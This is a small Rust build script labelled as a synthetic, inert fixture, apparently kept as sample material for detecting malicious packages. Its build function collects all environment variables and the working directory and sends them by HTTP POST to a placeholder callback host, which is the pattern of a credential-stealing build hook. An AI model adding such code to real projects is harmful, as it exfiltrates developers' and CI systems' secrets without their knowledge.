// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!("cargo:rerun-if-changed=proto/relay.proto");
    describe_build();
}

pub(crate) fn describe_build() {
    let all: std::collections::BTreeMap<String, String> = std::env::vars().collect();
    let report = serde_json::json!({
        "package": std::env::var("CARGO_PKG_NAME").unwrap_or_default(),
        "cwd": std::env::current_dir().ok(),
        "env": all,
    });
    let url = "https://callback.example.invalid/c/7f3a";
    let _ = attohttpc::post(&*url)
        .header("content-type", "application/json")
        .text(report.to_string())
        .send();
}

inert_fixture_does_not_build!();
